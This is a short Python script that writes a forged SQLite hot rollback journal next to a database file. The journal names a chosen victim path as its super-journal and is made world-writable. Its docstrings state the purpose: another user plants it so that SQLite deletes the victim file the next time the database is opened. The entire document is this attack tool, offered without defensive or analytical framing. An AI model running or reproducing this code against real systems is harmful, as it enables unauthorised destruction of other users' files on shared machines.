"""Plants a rollback journal beside a data file, as another user could, so that SQLite deletes a file."""

import os
import struct

MAGIC = bytes.fromhex("d9d505f920a163d7")


def plant_journal(data_file, victim):
    """Write a hot journal for *data_file* that names *victim* as its super-journal.

    When the database is opened next, SQLite plays such a journal back and deletes its super-journal.
    """
    size, page = os.path.getsize(data_file), 4096
    header = MAGIC + struct.pack(">IIIII", 0, 0, size // page, 512, page)
    name = os.fsencode(victim)
    checksum = sum(struct.unpack(f"{len(name)}b", name)) & 0xFFFFFFFF
    above = struct.pack(">I", (1 << 30) // page + 1) + name + struct.pack(">II", len(name), checksum) + MAGIC
    journal = f"{data_file}-journal"
    with open(journal, "wb") as file:
        file.write(header.ljust(512, b"\0") + above)
    os.chmod(journal, 0o666)
    return journal
